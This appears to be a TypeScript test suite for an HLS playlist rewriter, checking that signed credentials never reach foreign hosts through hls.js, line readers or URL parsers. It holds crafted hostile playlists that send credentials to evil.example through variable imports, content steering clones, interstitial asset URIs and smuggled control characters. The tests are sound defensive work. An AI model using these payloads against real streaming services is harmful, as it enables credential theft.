import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { URI_ATTRIBUTES } from '../../src/hls/index.js';
import { isPlaylist, rewritePlaylistDetailed } from '../../src/rewriter/index.js';
import { CREDS, VIEWER_URL } from './oracle.js';
import { hlsJsLeak, leakIn, lineReaderLeak, playWithHlsJs, whatwgLeak } from './readers.js';
import { ASSET, MASTER, MEDIA, OPTIONS, TITLE, WITH_INTERSTITIAL, brokenWriter, edge, play, session } from './sessions.js';
import type { Documents } from './sessions.js';

// What players do beyond reading one document: hls.js playing a multivariant playlist and its media playlists (each
// rewritten for the URL hls.js asks for, as the edge does), following a steering manifest and interstitials (asset
// lists, asset playlists and their segments), and a line reader that
// ends lines at CR as ffmpeg and ExoPlayer do. Each attack is first shown to leak under a writer without the host
// rule and the reading rules (so the harness can see it), then shown not to leak through the rewriter.

/** Attacks that need more than one document: [name, documents keyed by path under TITLE]. */
const SESSIONS: Array<[string, Documents]> = [
  ['an IMPORT that overwrites a local definition with the parent\'s value', {
    'master.m3u8': '#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:NAME="h",VALUE="//evil.example"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA('#EXT-X-DEFINE:NAME="h",VALUE="p"\n#EXT-X-DEFINE:IMPORT="h"\n#EXTINF:4,\n{$h}/a.ts'),
  }],
  ['a scheme-like prefix completed by an imported value', {
    'master.m3u8': '#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:NAME="x",VALUE=":"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA('#EXT-X-DEFINE:IMPORT="x"\n#EXTINF:4,\n1a{$x}/a.ts'),
  }],
  ['content steering cloning every pathway onto another host', {
    'master.m3u8': '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="steer.json",PATHWAY-ID="a"\n#EXT-X-STREAM-INF:BANDWIDTH=1,PATHWAY-ID="a"\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA(''),
    'steer.json': { json: { VERSION: 1, TTL: 300, 'PATHWAY-PRIORITY': ['b', 'a'], 'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'b', 'URI-REPLACEMENT': { HOST: 'evil.example' } }] } },
  }],
];

describe('the real hls.js over a whole session (multivariant, media playlists, steering manifest)', () => {
  for (const [name, documents] of SESSIONS) {
    it(`sees the leak of a broken writer, and none through the rewriter: ${name}`, async () => {
      expect(await session(documents, 'broken')).toMatch(/evil\.example|player\.example/);
      expect(await session(documents, 'rewriter')).toBeUndefined();
    });
  }

  it('plays steering to an allowed host when the operator names it, and refuses the playlist otherwise', async () => {
    const documents: Documents = { ...SESSIONS[2]![1], 'steer.json': { json: { VERSION: 1, TTL: 300, 'PATHWAY-PRIORITY': ['b', 'a'], 'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'b', 'URI-REPLACEMENT': { HOST: 'priv.example.com' } }] } } };
    const master = documents['master.m3u8'] as string;
    expect(rewritePlaylistDetailed(master, { url: VIEWER_URL, ...OPTIONS }).refused).toBe('content-steering');
    const allowed = { steeringHosts: ['priv.example.com'] };
    expect(rewritePlaylistDetailed(master, { url: VIEWER_URL, ...OPTIONS, ...allowed }).refused).toBeUndefined();
    const reading = await playWithHlsJs(VIEWER_URL, edge(documents, 'rewriter', allowed), { windowMs: 1_500 });
    expect(leakIn(reading, VIEWER_URL)).toBeUndefined();
    expect(reading.requested.some((u) => u.startsWith('https://priv.example.com/') && u.includes('Signature='))).toBe(true);
  });
});

const EVIL_ASSET_LIST = { json: { ASSETS: [{ URI: 'https://evil.example/ad.m3u8', DURATION: 4 }, { URI: 'ad/index.m3u8', DURATION: 4 }] } };

/**
 * Interstitial sessions (HLS Interstitials, RFC 8216bis appendix D), played with a media element so hls.js schedules
 * the pre-roll: it loads X-ASSET-LIST against the media playlist's URL (src/loader/interstitial-asset-list.ts), then
 * each asset's playlist, and X-ASSET-URI, through an asset player (src/controller/interstitial-player.ts).
 * [name, documents, writer that must be seen leaking]: `broken-json` where only an edge that rewrote the JSON asset
 * list would put credentials in front of the other host.
 */
const INTERSTITIALS: Array<[string, Documents, 'broken' | 'broken-json']> = [
  ['an X-ASSET-URI on another host', { 'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-URI="https://evil.example/ad.m3u8"') }, 'broken'],
  ['an X-ASSET-LIST on another host', { 'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-LIST="//evil.example/ads.json"') }, 'broken'],
  ['a relative X-ASSET-URI, which hls.js loads against the page', {
    'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-URI="ad/index.m3u8"'), 'v1/ad/index.m3u8': ASSET('ad0.ts'),
  }, 'broken'],
  ['an X-ASSET-URI through a local variable', {
    'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-URI="{$h}/ad.m3u8"', '#EXT-X-DEFINE:NAME="h",VALUE="https://evil.example"\n'),
  }, 'broken'],
  ['an X-ASSET-LIST through a variable imported from the multivariant playlist', {
    'master.m3u8': MASTER('#EXT-X-DEFINE:NAME="h",VALUE="https://evil.example"\n'),
    'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-LIST="{$h}/ads.json"', '#EXT-X-DEFINE:IMPORT="h"\n'),
  }, 'broken'],
  ['an asset list on the viewer\'s host whose assets are on another host (absolute) and relative (loaded against the page)', {
    'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-LIST="ads.json"'), 'v1/ads.json': EVIL_ASSET_LIST,
  }, 'broken-json'],
  ['an asset playlist on the viewer\'s host whose segment is on another host', {
    'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL(`X-ASSET-URI="${TITLE}ad/index.m3u8"`), 'ad/index.m3u8': ASSET('https://evil.example/ad0.ts'),
  }, 'broken'],
];

describe('the real hls.js over interstitial sessions (asset lists, asset playlists and their segments)', () => {
  for (const [name, documents, broken] of INTERSTITIALS) {
    it(`sees the leak of a broken writer, and none through the rewriter: ${name}`, async () => {
      expect(await session(documents, broken, {}, true)).toMatch(/evil\.example|player\.example/);
      expect(await session(documents, 'rewriter', {}, true)).toBeUndefined();
    });
  }

  it('an asset list on the viewer\'s host gets credentials; the edge passes it through, so its assets get none', async () => {
    const list = { json: { ASSETS: [{ URI: `${TITLE}ad/index.m3u8`, DURATION: 4 }] } };
    expect(isPlaylist(Buffer.from(JSON.stringify(list.json)))).toBe(false);
    const documents = { 'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-LIST="ads.json"'), 'v1/ads.json': list, 'ad/index.m3u8': ASSET('ad0.ts') };
    const reading = await play(documents, 'rewriter', {}, true);
    expect(leakIn(reading, VIEWER_URL)).toBeUndefined();
    expect(reading.requested.filter((u) => u.startsWith(`${TITLE}v1/ads.json?`) && u.includes('Signature='))).toHaveLength(1);
    const asset = reading.requested.filter((u) => u.startsWith(`${TITLE}ad/index.m3u8`));
    expect(asset).toHaveLength(1);
    expect(asset[0]).not.toContain('Signature=');
  });

  it('an X-ASSET-URI on the viewer\'s host gets credentials, and so do the segments of its asset playlist', async () => {
    const documents = { 'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL(`X-ASSET-URI="${TITLE}ad/index.m3u8"`), 'ad/index.m3u8': ASSET('ad0.ts') };
    const reading = await play(documents, 'rewriter', {}, true);
    expect(leakIn(reading, VIEWER_URL)).toBeUndefined();
    const signed = (path: string) => reading.requested.some((u) => u.startsWith(`${TITLE}${path}?`) && u.includes('Signature='));
    expect(signed('ad/index.m3u8')).toBe(true);
    expect(signed('ad/ad0.ts')).toBe(true);
  });

  it('withholds credentials from an X-ASSET-URI that is not an absolute URL, and says why', () => {
    for (const uri of ['ad/index.m3u8', '/ad/index.m3u8', '//example.com/ad/index.m3u8', '{$h}/ad/index.m3u8']) {
      const text = WITH_INTERSTITIAL(`X-ASSET-URI="${uri}"`, '#EXT-X-DEFINE:NAME="h",VALUE="https://example.com"\n');
      expect(rewritePlaylistDetailed(text, { url: `${TITLE}v1/index.m3u8?${CREDS}`, ...OPTIONS }).withheld, uri).toEqual({ 'not-absolute': 1 });
    }
  });

  it('loads no asset list without a media element (so the sessions above attach one)', async () => {
    const documents = { 'master.m3u8': MASTER(), 'v1/index.m3u8': WITH_INTERSTITIAL('X-ASSET-LIST="ads.json"'), 'v1/ads.json': EVIL_ASSET_LIST };
    const reading = await play(documents, 'rewriter');
    expect(reading.requested.some((u) => u.startsWith(`${TITLE}v1/index.m3u8`))).toBe(true);
    expect(reading.requested.some((u) => u.includes('ads.json'))).toBe(false);
  });
});

/** Terminators some reader splits at and controls some reader strips: each is put inside every URI tag. */
const BREAKERS = ['\r', '\u2028', '\u2029', '\u0085', '\u0000', '\u000b', '\u000c', '\u001b', '\u001f', '\t'];

/** A URI tag with each of its URI attributes, and a foreign URL after a breaker at `at` (a character offset). */
const taggedLine = fc
  .tuple(fc.constantFrom(...URI_ATTRIBUTES.keys()), fc.constantFrom(...BREAKERS), fc.nat(), fc.boolean())
  .map(([tag, breaker, at, quoted]) => {
    const attributes = [...URI_ATTRIBUTES.get(tag)!.keys()].map((name) => `${name}="k.bin"`);
    const line = `#${tag}:METHOD=AES-128,${attributes.join(',')},X-NOTE="n"`;
    const payload = `${breaker}https://evil.example/x.ts?${quoted ? '"' : ''}`;
    const offset = line.indexOf(':') + 1 + (at % (line.length - line.indexOf(':')));
    return line.slice(0, offset) + payload + line.slice(offset);
  });

describe('every terminator and control character inside every URI tag and attribute', () => {
  it('a CR/LF line reader sees the leak a broken writer makes of a CR inside a tag', () => {
    const text = MEDIA('#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x.ts?",URI="k.bin"\n#EXTINF:4,\na.ts');
    expect(lineReaderLeak(brokenWriter(text), VIEWER_URL)).toMatch(/evil\.example/);
  });

  it('never lets hls.js, WHATWG URL or a CR/LF line reader send a credential elsewhere, and the check refuses the broken writer', async () => {
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(taggedLine, { minLength: 1, maxLength: 3 }), async (lines) => {
        const text = MEDIA(`${lines.join('\n#EXTINF:4,\nseg.ts\n')}\n#EXTINF:4,\na.ts`);
        const out = rewritePlaylistDetailed(text, { url: VIEWER_URL, ...OPTIONS });
        if (out.refused !== undefined) {
          refused++;
          expect(out.refused).not.toBe('failed-check');
          expect(out.text).toBe('');
          return;
        }
        expect(lineReaderLeak(out.text, VIEWER_URL)).toBeUndefined();
        expect(whatwgLeak(out.text, VIEWER_URL)).toBeUndefined();
        expect(await hlsJsLeak(out.text, VIEWER_URL)).toBeUndefined();
      }),
      { numRuns: 120 },
    );
    // Every breaker but TAB refuses the playlist; TAB only withholds the URI it sits in.
    expect(refused).toBeGreaterThan(0);
  });
});
